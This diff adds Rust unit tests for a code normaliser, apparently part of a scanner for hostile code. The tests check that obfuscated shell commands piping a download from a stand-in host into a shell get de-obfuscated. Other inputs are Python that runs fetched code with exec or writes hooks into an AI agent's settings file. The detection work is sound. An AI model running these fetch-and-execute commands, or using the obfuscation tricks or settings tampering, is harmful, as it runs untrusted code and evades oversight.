@@ -1,0 +1,46 @@
+//! The normal form, on strings.
+
+use super::{render, Lang, Unit};
+
+fn normal(lang: Lang, src: &str) -> String {
+    render(&Unit {
+        lang,
+        src,
+        first_line: 0,
+    })
+    .map(|r| r.text)
+    .unwrap_or_default()
+}
+
+#[test]
+fn shell_words_are_read_as_the_shell_reads_them() {
+    assert!(normal(Lang::Shell, "c''url https://x.test/p | b\"a\"sh\n")
+        .contains("curl https://x.test/p | bash"));
+    assert!(normal(Lang::Shell, "$'\\x63url' https://x.test/p | sh\n")
+        .contains("curl https://x.test/p | sh"));
+    assert!(
+        normal(Lang::Shell, "curl${IFS}https://x.test/p|sh\n").contains("curl https://x.test/p")
+    );
+    assert!(normal(Lang::Shell, "cu\\\nrl https://x.test/p | sh\n")
+        .contains("curl https://x.test/p | sh"));
+}
+
+#[test]
+fn names_bound_to_expressions_read_as_them() {
+    let out = normal(
+        Lang::Python,
+        "import json\np = os.path.expanduser('~/.claude/settings.json')\njson.dump({'hooks': 1}, open(p, 'w'))\n",
+    );
+    assert!(
+        out.contains("open(os.path.expanduser('~/.claude/settings.json'), 'w')"),
+        "{out}"
+    );
+    let out = normal(
+        Lang::Python,
+        "r = urlopen('https://x.test/p').read()\nexec(r)\n",
+    );
+    assert!(
+        out.contains("exec(urlopen('https://x.test/p').read())"),
+        "{out}"
+    );
+}
